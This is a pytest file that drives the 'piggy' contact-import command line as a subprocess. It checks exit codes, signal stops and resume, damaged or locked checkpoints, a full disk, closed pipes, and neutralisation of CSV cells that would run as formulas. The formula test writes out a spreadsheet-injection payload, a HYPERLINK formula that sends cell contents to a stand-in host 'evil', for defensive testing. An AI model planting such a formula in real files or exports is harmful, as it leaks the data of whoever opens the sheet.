"""The `piggy` command line's contract, driving the installed `piggy` as a subprocess: an exit
code per ending (signals and internal errors included), exit 2 with a message naming each
bad input, neutralised CSV cells, a closed pipe, and what starting up imports."""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_helpers import environment, serving

from piggy_async.bulk import read_contacts_csv
from piggy_async.bulk._checkpoint import Checkpoint
from piggy_async.bulk._load import load
from piggy_async.bulk._lock import exclusive
from piggy_async.testing import FakePiggy, RateLimit, VirtualClock

PIGGY = str(Path(sys.executable).with_name("piggy"))


@pytest.fixture
def server() -> Iterator[FakePiggy]:
    with serving(FakePiggy()) as server:
        yield server


def piggy(env: dict[str, str], *args: str, **options: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [PIGGY, *args], env=env, capture_output=True, text=True, timeout=120, **options
    )  # type: ignore[call-overload,no-any-return]


def contacts_csv(path: Path, count: int) -> str:
    lines = ["email,firstname", *(f"user{i}@bikinibottom.sea,N{i}" for i in range(count))]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return str(path)


def test_exit_0_and_1_from_the_installed_command(server: FakePiggy, tmp_path: Path) -> None:
    good = contacts_csv(tmp_path / "good.csv", 2)
    bad = tmp_path / "bad.csv"
    bad.write_text("email\nsandy@bikinibottom.sea\nnope\n", encoding="utf-8")

    assert piggy(environment(server), "import-contacts", good).returncode == 0
    assert piggy(environment(server), "import-contacts", str(bad)).returncode == 1


def test_exit_3_and_4_from_the_installed_command(tmp_path: Path) -> None:
    contacts = contacts_csv(tmp_path / "c.csv", 1)
    limited = FakePiggy(rate_limit=RateLimit(limit=1, window=3600), clock=VirtualClock())
    with serving(limited) as server:
        env = environment(server)
        assert piggy(env, "call", "contacts.list").returncode == 0  # the budget is spent
        stopped = piggy(env, "import-contacts", contacts)
        refused = piggy(environment(server, api_key="wrong"), "call", "contacts.list")

    assert stopped.returncode == 3, stopped.stderr
    assert refused.returncode == 4, refused.stderr


def _start_import(env: dict[str, str], contacts: str) -> subprocess.Popen[str]:
    """An import of many contacts, returned once it has finished some (not all) of them."""
    process = subprocess.Popen(
        [PIGGY, "import-contacts", contacts, "--concurrency", "2"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    for line in process.stdout:
        if line.startswith("progress: ") and not line.startswith("progress: 0/"):
            return process
    raise AssertionError(f"no progress: {process.communicate()}")


@pytest.mark.parametrize(("signum", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_stop_signal_ends_cleanly_and_the_same_command_resumes(
    server: FakePiggy, tmp_path: Path, signum: int, code: int
) -> None:
    contacts = contacts_csv(tmp_path / "c.csv", 1500)
    env = environment(server)
    process = _start_import(env, contacts)

    process.send_signal(signum)
    stdout, stderr = process.communicate(timeout=60)

    assert process.returncode == code, stderr
    assert "stopped; run the same command again to resume" in stderr
    assert "Traceback" not in stderr
    pending = next(line for line in stdout.splitlines() if "contacts still to import" in line)
    assert int(pending.split("│")[2]) > 0  # the partial summary
    resumed = piggy(env, "import-contacts", contacts)
    assert resumed.returncode == 0, resumed.stderr
    assert len(server.state.contacts) == 1500  # nothing lost, nothing created twice


def test_a_second_ctrl_c_exits_at_once(tmp_path: Path) -> None:
    """The input is a pipe nobody writes to, so the first Ctrl-C cannot finish the stop:
    the second one ends the process there and then."""
    fifo = tmp_path / "contacts.csv"
    os.mkfifo(fifo)
    with (
        subprocess.Popen(
            # both stated: nothing needs to seek in the pipe (detecting them would)
            [PIGGY, "import-contacts", str(fifo), "--dry-run", "--encoding=utf-8", "--delimiter=,"],
            env=environment(None),
            stderr=subprocess.PIPE,
            text=True,
        ) as process,
        open(fifo, "w") as writer,
    ):  # open returns once piggy opened it to read
        assert process.stderr is not None
        writer.write("email\n")
        writer.flush()
        process.send_signal(signal.SIGINT)
        assert "stopping" in process.stderr.readline() + process.stderr.readline()
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=30) == 130
        assert "stopped at once" in process.stderr.read()


def test_a_second_signal_ends_the_process_whatever_its_main_thread_is_doing() -> None:
    """A handler runs only when the main thread looks, which a thread blocked reading may
    not do again: here it never can, since it takes no signal at all. Two signals of two
    kinds (one of a kind may merge with the other before it is taken)."""
    script = (
        "import signal, sys\n"
        "from piggy_async.cli import _signals\n"
        "_signals.install()\n"
        "signal.pthread_sigmask(signal.SIG_BLOCK, _signals.SIGNALS)\n"
        "print('ready', flush=True)\n"
        "sys.stdin.read()\n"
    )
    with subprocess.Popen(
        [sys.executable, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True,
    ) as process:  # fmt: skip
        assert process.stdout is not None and process.stderr is not None
        assert process.stdout.readline() == "ready\n"
        process.send_signal(signal.SIGINT)
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=30) in (130, 143), "the code of the signal taken second"
        assert "stopped at once" in process.stderr.read()


def test_an_internal_error_exits_70_naming_it_and_its_traceback_file(tmp_path: Path) -> None:
    script = (
        "import piggy_async.cli._call as call\n"
        "def broken(): raise ZeroDivisionError('a bug')\n"
        "call._index = broken\n"
        "from piggy_async.cli import main\n"
        "main()\n"
    )
    env = {**os.environ, "TMPDIR": str(tmp_path)}  # where the traceback is saved
    quiet = subprocess.run(
        [sys.executable, "-c", script, "operations"], env=env, capture_output=True, text=True
    )
    loud = subprocess.run(
        [sys.executable, "-c", script, "--debug", "operations"],
        env=env,
        capture_output=True,
        text=True,
    )

    assert quiet.returncode == 70
    (line,) = quiet.stderr.splitlines()
    assert line.startswith("piggy: internal error: ZeroDivisionError: a bug (its traceback is in ")
    (saved,) = tmp_path.glob("piggy-*.traceback")
    assert f"is in {saved}; run with --debug to print it)" in line
    traceback = saved.read_text()
    assert "in broken\n" in traceback and traceback.endswith("ZeroDivisionError: a bug\n")
    assert loud.returncode == 70
    assert "Traceback (most recent call last)" in loud.stderr
    assert len(list(tmp_path.glob("piggy-*.traceback"))) == 1  # --debug saves none


def _checkpoint_of(env: dict[str, str], tmp_path: Path) -> tuple[str, Path]:
    """An input and the checkpoint of a run stopped by refused credentials: loaded, with
    every contact still to import."""
    contacts = contacts_csv(tmp_path / "c.csv", 3)
    checkpoint = tmp_path / "c.sqlite"
    store = Checkpoint(checkpoint)
    try:
        asyncio.run(load(store, read_contacts_csv(contacts)))
    finally:
        store.close()
    return contacts, checkpoint


def test_a_tampered_checkpoint_is_exit_2_naming_contact_and_field(
    server: FakePiggy, tmp_path: Path
) -> None:
    env = environment(server)
    contacts, checkpoint = _checkpoint_of(env, tmp_path)
    with contextlib.closing(sqlite3.connect(checkpoint)) as db, db:
        db.execute("UPDATE contacts SET attributes = '[1, 2' WHERE id = 2")

    outcome = piggy(env, "import-contacts", contacts, "--checkpoint", str(checkpoint))

    assert outcome.returncode == 2
    assert "is damaged: contact 2 has attributes that are not a JSON object" in outcome.stderr
    assert "Traceback" not in outcome.stderr


def test_a_checkpoint_in_use_names_the_process_holding_it(
    server: FakePiggy, tmp_path: Path
) -> None:
    env = environment(server)
    contacts, checkpoint = _checkpoint_of(env, tmp_path)

    with exclusive(checkpoint, "checkpoint"):
        outcome = piggy(env, "import-contacts", contacts, "--checkpoint", str(checkpoint))
    after = piggy(env, "import-contacts", contacts, "--checkpoint", str(checkpoint))

    assert outcome.returncode == 2
    assert f"is in use by process {os.getpid()}" in outcome.stderr
    assert after.returncode == 0, after.stderr
    assert len(server.state.contacts) == 3


def test_a_full_disk_is_exit_2_naming_the_checkpoint(server: FakePiggy, tmp_path: Path) -> None:
    contacts = contacts_csv(tmp_path / "c.csv", 3000)
    checkpoint = tmp_path / "c.sqlite"

    def small_disk() -> None:  # files may grow to 64 KiB: the checkpoint needs more
        resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))

    outcome = piggy(
        environment(server),
        "import-contacts",
        contacts,
        "--checkpoint",
        str(checkpoint),
        preexec_fn=small_disk,
    )

    assert outcome.returncode == 2
    assert f"the checkpoint {checkpoint} cannot be used" in outcome.stderr
    assert "Traceback" not in outcome.stderr


def test_cells_that_would_run_as_formulas_are_neutralised(
    server: FakePiggy, tmp_path: Path
) -> None:
    contacts = tmp_path / "c.csv"
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    contacts.write_text(f'email\n"{formula.replace(chr(34), chr(34) * 2)}"\n@SUM(A1)\n')
    errors = tmp_path / "failed.csv"

    outcome = piggy(environment(server), "import-contacts", str(contacts), "--errors", str(errors))

    assert outcome.returncode == 1
    lines = errors.read_text().splitlines()
    assert lines[1] == f'2,"\'{formula.replace(chr(34), chr(34) * 2)}",not a valid e-mail address'
    assert lines[2] == "3,'@SUM(A1),not a valid e-mail address"
    with (
        contextlib.closing(sqlite3.connect(tmp_path / "c.csv.import.sqlite")) as db,
        db,
    ):  # the value as given
        assert db.execute("SELECT email FROM rows WHERE row = 2").fetchone() == (formula,)


def test_a_closed_pipe_ends_quietly_with_0() -> None:
    with subprocess.Popen(
        [PIGGY, "operations"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    ) as process:
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()  # the reader is gone before piggy writes its first line

        assert process.wait(timeout=30) == 0
        assert process.stderr.read() == ""


def test_a_job_whose_reader_left_still_finishes_with_its_own_code(
    server: FakePiggy, tmp_path: Path
) -> None:
    """`piggy import-contacts c.csv | head -1`: the import goes on without its output, and
    the errors file is still written."""
    contacts = tmp_path / "c.csv"
    contacts.write_text("email\nsandy@bikinibottom.sea\nnope\n", encoding="utf-8")
    with subprocess.Popen(
        [PIGGY, "import-contacts", str(contacts)],
        env=environment(server),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as process:
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()

        assert process.wait(timeout=60) == 1
        assert process.stderr.read() == ""
    assert len(server.state.contacts) == 1
    assert "nope" in (tmp_path / "c.csv.failed.csv").read_text()
